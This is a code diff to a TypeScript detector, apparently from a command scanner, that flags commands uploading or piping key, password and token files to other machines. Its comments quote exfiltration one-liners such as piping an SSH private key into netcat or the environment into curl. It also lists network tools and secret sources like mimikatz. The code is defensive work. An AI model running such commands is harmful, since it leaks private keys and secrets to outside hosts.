@@ -1,17 +1,21 @@
 /** Key and credential files on their way out: as an upload, as a copy to another machine, or through a pipe. */
-import { around, type Command, type CommandRule, type Shown, sharedRule } from './command-line.ts'
+import { firstPlace } from '../../text/mapped-text.ts'
+import { around, type Command, type CommandRule, markOf, type Shown, sharedRule } from './command-line.ts'
+import type { Match } from './scanner.ts'
 import wordLists from './word-lists.json' with { type: 'json' }
 
 const LEAVES: Shown = { effect: 'external' }
 const STORED: Shown = { effect: 'external', severity: 'hold' }
 const REACH = 200
 
+const { parts: PARTS, endings: ENDINGS } = wordLists['sensitive-file']
+const SENSITIVE = new RegExp(`${PARTS.map(RegExp.escape).join('|')}|(?:${ENDINGS.map(RegExp.escape).join('|')})$`)
+
 /** By the names that files with keys, passwords or tokens have on every machine. A public key is there to be handed out. */
 function isSensitiveFile(argument: string): boolean {
-  const { parts, endings } = wordLists['sensitive-file']
   const path = argument.replace(/[)\]}"'`,;]{1,4}$/, '')
   if (path.endsWith('.pub') || path.endsWith('known_hosts') || path.endsWith('authorized_keys')) return false
-  return parts.some((part) => path.includes(part)) || endings.some((ending) => path.endsWith(ending))
+  return SENSITIVE.test(path)
 }
 
 const isLocal = (args: readonly string[]): boolean =>
@@ -24,47 +28,28 @@ const carried = (args: readonly string[]): string[] => args.filter((_, at) => !U
 const UPLOADS = new Set(wordLists['credential-upload'].uploads)
 const READS = ['$(cat', '`cat', '$(base64', '`base64', '$(<', '$(gzip', '$(xxd']
 
-const upload: CommandRule = (command, lower) => {
-  const { args } = command
-  if (isLocal(args)) return null
+/** What brings no such file is told first, and by little: a text may be full of commands. */
+const upload: CommandRule = ({ args }) => {
   const sent = args.some(
     (arg, at) =>
-      isSensitiveFile(arg) &&
       (arg.includes('@') ||
         arg.startsWith('--post-file=') ||
         arg.startsWith('--upload-file=') ||
-        UPLOADS.has(args[at - 1] ?? '')),
+        UPLOADS.has(args[at - 1] ?? '')) &&
+      isSensitiveFile(arg),
   )
-  const read = args.some(
-    (arg, at) =>
-      READS.some((mark) => arg.includes(mark)) && (isSensitiveFile(arg) || isSensitiveFile(args[at + 1] ?? '')),
-  )
-  return sent || read || isPiped(lower, command) ? LEAVES : null
+  const reads = (arg: string): boolean =>
+    (arg.includes('$(') || arg.includes('`')) && READS.some((mark) => arg.includes(mark))
+  const read = (arg: string, at: number): boolean =>
+    reads(arg) && (isSensitiveFile(arg) || isSensitiveFile(args[at + 1] ?? ''))
+  return (sent || args.some(read)) && !isLocal(args) ? LEAVES : null
 }
 
-/** `cat ~/.ssh/id_rsa | nc host 9`, `env | curl -d @- host`: a source of secrets before the pipe into the network. */
-function isPiped(lower: string, { from }: Command): boolean {
-  const lead = around(lower, from, REACH, 0)
-  const line = lead.slice(Math.max(lead.lastIndexOf('\n'), lead.lastIndexOf(';')) + 1).trimEnd()
-  const last = line.slice(line.lastIndexOf('|') + 1).trim()
-  if (!line.includes('|') || (last !== '' && !last.startsWith('xargs'))) return false
-  const words = line.split(/[\s|"'`]/).filter((word) => word !== '')
-  return words.some((word, at) => isSensitiveFile(word) || isSource(words, at))
-}
-
-function isSource(words: readonly string[], at: number): boolean {
-  const word = words[at] as string
-  if (word === 'printenv' || (word === 'env' && at === 0)) return true
-  if (word === 'secrets' || word === 'secret') return words.slice(Math.max(0, at - 4), at).includes('get')
-  return word === 'get-secret-value' || word === 'mimikatz' || word === 'pg_dump' || word === 'mysqldump'
-}
-
-const connect: CommandRule = (command, lower) => {
-  const { args } = command
+const connect: CommandRule = ({ args }) => {
   const fed = args.some(
     (arg, at) => (arg === '<' && isSensitiveFile(args[at + 1] ?? '')) || (arg.startsWith('<') && isSensitiveFile(arg)),
   )
-  return (fed || isPiped(lower, command)) && !isLocal(args) ? LEAVES : null
+  return fed && !isLocal(args) ? LEAVES : null
 }
 
 /** host:path, and no address with a scheme. */
@@ -92,11 +77,115 @@ const store: CommandRule = ({ args }) => {
   return copies && outside && from >= 0 && !BUCKETS.test(args[from] ?? '') ? STORED : null
 }
 
-export const UPLOAD_COMMANDS: Readonly<Record<string, CommandRule>> = {
-  ...sharedRule('curl wget http https invoke-restmethod invoke-webrequest', upload),
-  ...sharedRule('nc ncat netcat socat mail sendmail', connect),
+const SENDERS = 'curl wget http https invoke-restmethod invoke-webrequest'
+const CONNECTIONS = 'nc ncat netcat socat mail sendmail'
+
+const FILE_COMMANDS: Readonly<Record<string, CommandRule>> = {
+  ...sharedRule(SENDERS, upload),
+  ...sharedRule(CONNECTIONS, connect),
   ...sharedRule('scp rsync sftp', copy),
   ...sharedRule('aws gsutil gcloud az rclone', store),
-  ssh: (command, lower) => (isPiped(lower, command) ? LEAVES : null),
-  openssl: (command, lower) => (command.args[0] === 's_client' && isPiped(lower, command) ? LEAVES : null),
 }
+
+/** Whether what comes through a pipe leaves the machine. */
+const remote = ({ args }: Command): boolean => !isLocal(args)
+const INPUT_COMMANDS: Readonly<Record<string, (command: Command) => boolean>> = {
+  ...Object.fromEntries(`${SENDERS} ${CONNECTIONS}`.split(' ').map((program) => [program, remote])),
+  ssh: () => true,
+  openssl: ({ args }) => args[0] === 's_client',
+}
+
+export const UPLOAD_PROGRAMS: readonly string[] = [...Object.keys(FILE_COMMANDS), ...Object.keys(INPUT_COMMANDS)]
+
+export function credentialUploads(lower: string, commands: readonly Command[]): Match[] {
+  const isPiped = lower.includes('|')
+  let words: Words | undefined
+  const sendsSource = (command: Command): boolean => {
+    if (!isPiped || !Object.hasOwn(INPUT_COMMANDS, command.name)) return false
+    const line = pipedInto(lower, command.from)
+    if (line < 0 || !INPUT_COMMANDS[command.name]?.(command)) return false
+    words ??= new Words(lower)
+    return words.holdSource(line, command.from)
+  }
+  const found: Match[] = []
+  for (const command of commands) {
+    const ofFiles = Object.hasOwn(FILE_COMMANDS, command.name) ? FILE_COMMANDS[command.name]?.(command, lower) : null
+    const shown = ofFiles ?? (sendsSource(command) ? LEAVES : null)
+    if (shown) found.push({ from: command.from, to: command.to, ...shown })
+  }
+  return found
+}
+
+/** Where the line begins, within reach, that is piped into the command; -1 where none is. */
+function pipedInto(lower: string, from: number): number {
+  const lead = around(lower, from, REACH, 0)
+  const pipe = lead.lastIndexOf('|')
+  if (pipe < 0) return -1
+  const behind = lead.slice(pipe + 1)
+  if (behind.includes('\n') || behind.includes(';')) return -1
+  const last = behind.trim()
+  if (last !== '' && !last.startsWith('xargs')) return -1
+  return from - lead.length + Math.max(lead.lastIndexOf('\n'), lead.lastIndexOf(';')) + 1
+}
+
+/** A word that names a source of secrets wherever it stands, at the beginning of a line, or where they are got. */
+type Source = 'always' | 'first' | 'got' | 'none'
+
+function sourceOf(word: string): Source {
+  if (word === 'env') return 'first'
+  if (word === 'secrets' || word === 'secret') return 'got'
+  return SOURCES.has(word) || isSensitiveFile(word) ? 'always' : 'none'
+}
+
+const SOURCES = new Set(['printenv', 'get-secret-value', 'mimikatz', 'pg_dump', 'mysqldump'])
+
+/** The words of a text, worked out once for all commands that something is piped into. */
+class Words {
+  private readonly lower: string
+  private readonly begins: number[] = []
+  private readonly ends: number[] = []
+  private readonly sources: (Source | undefined)[] = []
+
+  constructor(lower: string) {
+    this.lower = lower
+    const { length } = lower
+    for (let at = 0; at < length; at++) {
+      const from = at
+      while (at < length && !isBetweenWords(lower.charCodeAt(at))) at++
+      if (at === from) continue
+      this.begins.push(from)
+      this.ends.push(at)
+      this.sources.push(undefined)
+    }
+  }
+
+  /** `cat ~/.ssh/id_rsa | nc host 9`, `env | curl -d @- host`: a source of secrets before the pipe into the network. */
+  holdSource(from: number, to: number): boolean {
+    const { begins, ends } = this
+    const first = firstPlace(ends.length, (at) => ends[at]! > from)
+    for (let at = first; at < begins.length && begins[at]! < to; at++) {
+      const source = this.sourceAt(at, from, to)
+      if (source === 'always' || (source === 'first' && at === first)) return true
+      if (source === 'got' && this.isBehindGet(at, Math.max(first, at - 4), from)) return true
+    }
+    return false
+  }
+
+  private sourceAt(at: number, from: number, to: number): Source {
+    const [begin, end] = [this.begins[at] as number, this.ends[at] as number]
+    if (begin < from || end > to) return sourceOf(this.lower.slice(Math.max(begin, from), Math.min(end, to)))
+    const source = this.sources[at] ?? sourceOf(this.lower.slice(begin, end))
+    this.sources[at] = source
+    return source
+  }
+
+  private isBehindGet(at: number, first: number, from: number): boolean {
+    for (let before = first; before < at; before++)
+      if (this.lower.slice(Math.max(this.begins[before]!, from), this.ends[before]) === 'get') return true
+    return false
+  }
+}
+
+/** Two commands of which one is only run if the other was are one line here. */
+const isBetweenWords = (code: number): boolean => code !== AMPERSAND && markOf(code) !== 0
+const AMPERSAND = 38
